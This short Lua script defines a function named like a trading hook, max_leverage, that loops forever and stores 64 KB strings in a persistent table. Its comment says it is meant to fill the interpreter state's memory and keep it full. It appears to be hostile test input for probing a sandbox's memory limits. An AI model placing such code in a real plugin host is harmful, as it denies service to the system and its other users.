-- Fills the state's memory and keeps it: every later call starts at the cap.
local hoard = {}

function max_leverage(pos, acct, ctx)
    while true do
        hoard[#hoard + 1] = string.rep("x", 65536) .. #hoard
    end
end
